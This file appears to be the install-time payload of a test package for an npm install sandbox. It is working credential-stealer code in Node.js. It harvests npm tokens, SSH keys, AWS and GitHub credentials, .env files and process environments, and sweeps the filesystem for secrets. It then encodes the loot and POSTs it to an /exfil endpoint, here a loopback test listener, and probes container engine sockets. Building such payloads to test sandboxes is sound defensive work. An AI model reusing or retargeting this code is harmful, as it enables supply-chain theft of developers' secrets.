// Readable payload, no downloads: the harness writes target.json (the
// loopback listener's port) before packing. Every error is swallowed, as
// real stealers do, so the install itself succeeds.
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

const target = JSON.parse(fs.readFileSync(path.join(__dirname, 'target.json'), 'utf8'));
const home = process.env.HOME || process.env.USERPROFILE || os.homedir();
const probe = { env: Object.keys(process.env).sort(), files: {}, sweep: [], sends: [], interfaces: Object.keys(os.networkInterfaces()) };
const loot = [];

function read(p) {
  try {
    const s = fs.readFileSync(p, 'utf8');
    probe.files[p] = 'read ' + s.length + ' bytes';
    loot.push(p + ':\n' + s);
  } catch (e) {
    probe.files[p] = e.code || String(e);
  }
}

const init = process.env.INIT_CWD || '/work';
for (const p of [
  path.join(home, '.npmrc'), '/root/.npmrc', process.env.npm_config_userconfig || '',
  path.join(home, '.ssh/id_rsa'), path.join(home, '.aws/credentials'), path.join(home, '.config/gh/hosts.yml'),
  path.join(init, '.env'), path.join(init, '.npmrc'), path.join(init, '../.env'), path.join(init, '.git/config'),
  '/run/safe-install/npmrc', '/proc/1/environ',
]) if (p) read(p);

// TruffleHog-style sweep: every readable small file under these roots.
let sweptBytes = 0;
function sweep(dir, depth) {
  if (depth > 8 || /^\/(proc|sys|dev)(\/|$)/.test(dir)) return;
  let ents;
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const d of ents) {
    const p = path.join(dir, d.name);
    if (d.isDirectory()) sweep(p, depth + 1);
    else if (d.isFile()) {
      try {
        if (fs.statSync(p).size > 1 << 20) continue;
        const s = fs.readFileSync(p, 'latin1');
        // Bounded like a real stealer's upload: on a host whose /tmp held
        // gigabytes of test logs full of canaries, the unbounded sweep ran
        // 42 s and the positive control's listener received nothing.
        if (/SICANARY|_authToken|PRIVATE KEY|AKIA/.test(s) && (sweptBytes += s.length) < 8 << 20) { probe.sweep.push(p); loot.push(p + ':\n' + s); }
      } catch (e) { /* unreadable */ }
    }
  }
}
for (const root of ['/', home, path.resolve(__dirname, '../..'), path.resolve(init, '..')]) sweep(root, 0);

loot.push('ENV:\n' + JSON.stringify(process.env));
const raw = loot.join('\n');
const b64 = Buffer.from(raw).toString('base64');
const b64b64 = Buffer.from(b64).toString('base64');
// Stash now, send later (RT-36): the loot travels with the package.
fs.writeFileSync(path.join(__dirname, 'loot.txt'), raw + '\n' + b64 + '\n' + b64b64 + '\n');

function send(host) {
  return new Promise((resolve) => {
    const req = http.request({ host, port: target.port, method: 'POST', path: '/exfil', timeout: 3000 }, (res) => {
      probe.sends.push({ host, result: 'HTTP ' + res.statusCode });
      res.resume();
      resolve();
    });
    req.on('error', (e) => { probe.sends.push({ host, result: e.code || String(e) }); resolve(); });
    req.on('timeout', () => { req.destroy(); });
    req.end(JSON.stringify({ raw, b64, b64b64 }));
  });
}

// RT-35/RT-40: engine sockets and the host's processes.
probe.sockets = {};
for (const p of ['/var/run/docker.sock', '/run/podman/podman.sock', '/run/user/1000/podman/podman.sock',
  '/run/user/1001/podman/podman.sock', process.env.XDG_RUNTIME_DIR ? process.env.XDG_RUNTIME_DIR + '/podman/podman.sock' : '']) {
  if (p) { try { fs.statSync(p); probe.sockets[p] = 'exists'; } catch (e) { probe.sockets[p] = e.code; } }
}
probe.pids = fs.readdirSync('/proc').filter((n) => /^[0-9]+$/.test(n)).length;

Promise.all(['127.0.0.1', '::1'].map(send)).then(() => {
  try { probe.route = fs.readFileSync('/proc/net/route', 'utf8'); } catch (e) { probe.route = e.code; }
  fs.writeFileSync(path.join(__dirname, 'probe.json'), JSON.stringify(probe, null, 2));
});
